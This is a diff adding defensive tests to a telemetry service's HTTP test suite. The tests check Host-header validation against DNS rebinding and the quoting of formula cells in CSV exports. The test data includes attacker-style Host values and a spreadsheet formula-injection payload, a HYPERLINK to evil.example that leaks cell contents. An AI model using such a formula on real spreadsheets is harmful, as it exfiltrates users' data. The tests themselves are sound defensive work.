@@ -5,6 +5,7 @@ on PostgreSQL; bearer tokens (401 without, 403 for a read token on a write, the 
 advance and close visible in the CLI); a port in use exits 2; and schemathesis fuzzes every
 operation of the app's own /openapi.json (no server error, answers match their schemas)."""
 import json
+import socket
 import subprocess
 import sys
 import urllib.error
@@ -99,7 +100,7 @@ def serve(broker_url, state, tmp_path, write=True, share_metrics=False):
     (tmp_path / "read.token").write_text(READ + "\n")
     (tmp_path / "write.token").write_text(WRITE + "\n")
     args = ["--http", "127.0.0.1:%d" % port, "--http-token-file", tmp_path / "read.token",
-            "--no-broker-check"]
+            "--no-broker-check", "--http-allowed-hosts", "ldp.test"]
     if share_metrics:
         args += ["--metrics-port", port]
     if write:
@@ -303,6 +304,56 @@ def test_the_openapi_contract_holds_under_fuzzing(served):
         assert calls.get((label, 200)) and calls.get((label, 404)), calls  # answers and misses
 
 
+def with_host(port, host, path="/campaigns", token=None, version="HTTP/1.1"):
+    """(status, JSON body) of a GET with this Host header (None: no Host, over HTTP/1.0)."""
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
+        head = ["GET %s %s" % (path, version if host is not None else "HTTP/1.0")]
+        head += ["Host: %s" % host] if host is not None else []
+        head += ["Authorization: Bearer %s" % token] if token else []
+        sock.sendall(("\r\n".join(head + ["Connection: close", "", ""])).encode("latin-1"))
+        raw = b""
+        while True:
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            raw += chunk
+    status = int(raw.split(b" ", 2)[1])
+    return status, raw.split(b"\r\n\r\n", 1)[1]
+
+
+def test_the_host_header_must_name_this_api(tmp_path, served):
+    """DNS rebinding: a page the operator visits rebinds its own name to 127.0.0.1 and reads a
+    token-less API; its requests carry the page's name in Host, which is refused (400). IP
+    addresses, localhost and the configured names pass."""
+    state = "sqlite:///" + str(tmp_path / "state.db")
+    key = str(tmp_path / "fleet.key")
+    write_signing_key(key)
+    with Store(state) as store:
+        create_campaign(store, None, key, "cpu", "grr", 1.0, "0-7")
+    port = free_port()
+    server = start_http(create_app(state, allowed_hosts=["ldp.example"]), "127.0.0.1", port)
+    try:
+        for host in ("127.0.0.1:%d" % port, "localhost:%d" % port, "LOCALHOST.", "[::1]:%d" % port,
+                     "10.1.2.3", "ldp.example", "LDP.example.:443"):
+            status, body = with_host(port, host)
+            assert status == 200 and json.loads(body)[0]["campaign"] == "cpu", (host, body)
+        for host in ("attacker.example:%d" % port, "127.0.0.1.attacker.example",
+                     "localhost.attacker.example", "ldp.example.attacker", "ldp.example:x",
+                     "[::1", "[evil]:80", None):
+            status, body = with_host(port, host)
+            assert status == 400, (host, status, body)
+            if host is not None:
+                assert json.loads(body)["field"] == "host", body
+        assert with_host(port, "attacker.example", "/healthz")[0] == 400
+    finally:
+        server.should_exit = True
+    # serve: the --http host and --http-allowed-hosts, a token or not
+    port = served["port"]
+    assert with_host(port, "ldp.test:%d" % port, token=READ)[0] == 200
+    assert with_host(port, "127.0.0.1:%d" % port, token=READ)[0] == 200
+    assert with_host(port, "rebound.example:%d" % port, token=READ)[0] == 400
+
+
 def test_writes_never_log_in_as_serve(tmp_path):
     """A broker binding client ids to logins would hand serve's session to the write endpoint's
     connection: with serve's own login they refuse, naming --http-admin-username."""
@@ -322,3 +373,44 @@ def test_writes_never_log_in_as_serve(tmp_path):
         assert get_json(port, "/campaigns/cpu", token=None)["state"] == "open"  # reads are open
     finally:
         server.should_exit = True
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tcmd", "plain", "a,b", "'quoted"]
+
+
+def test_csv_exports_quote_formula_cells(tmp_path, capsys):
+    """Spreadsheet formula injection: an item such as =HYPERLINK(...) is written '=HYPERLINK(...)
+    by `estimate --csv` and the API's format=csv (OWASP: = + - @ tab CR); other items and
+    every number (negative estimates included) are written as they are."""
+    import csv
+    import io
+    from ldpfleet.csvcells import cell, uncell
+    domain = tmp_path / "items.txt"
+    domain.write_text("\n".join(FORMULAS) + "\n")
+    state = "sqlite:///" + str(tmp_path / "state.db")
+    key = str(tmp_path / "fleet.key")
+    write_signing_key(key)
+    with Store(state) as store:
+        camp = create_campaign(store, None, key, "apps", "grr", 1.0, str(domain))
+    rng = np.random.default_rng(3)
+    from ldpfleet import protocol
+    truth = [protocol.item_key(FORMULAS[i]) for i in rng.integers(0, len(FORMULAS), 60)]
+    fold(state, "w", report_messages("apps", camp.mechanism(1).perturb_batch(truth, rng)))
+    port = free_port()
+    server = start_http(create_app(state), "127.0.0.1", port)
+    try:
+        via_api = request(port, "/campaigns/apps/estimate?format=csv", token=None)[2]
+    finally:
+        server.should_exit = True
+    via_cli = run_cli("estimate", "apps", "--state", state, fmt="--csv")
+    assert via_api == via_cli
+    rows = list(csv.DictReader(io.StringIO(via_cli)))
+    assert sorted(r["item"] for r in rows) == sorted(
+        [("'" + i if i[0] in "=+-@\t" else i) for i in FORMULAS] + ["other"])
+    for r in rows:
+        assert not r["item"].startswith(tuple("=+-@\t\r"))
+        float(r["estimate"]), float(r["ci_low"])  # numbers stay numbers
+    assert any(float(r["estimate"]) < 0 for r in rows)  # a negative one is written -x.y
+    assert cell("\rx") == "'\rx" and cell(-2.5) == -2.5 and cell("x=1") == "x=1"
+    assert all(uncell(cell(v)) == v for v in FORMULAS + ["\rx"] if not v.startswith("'"))
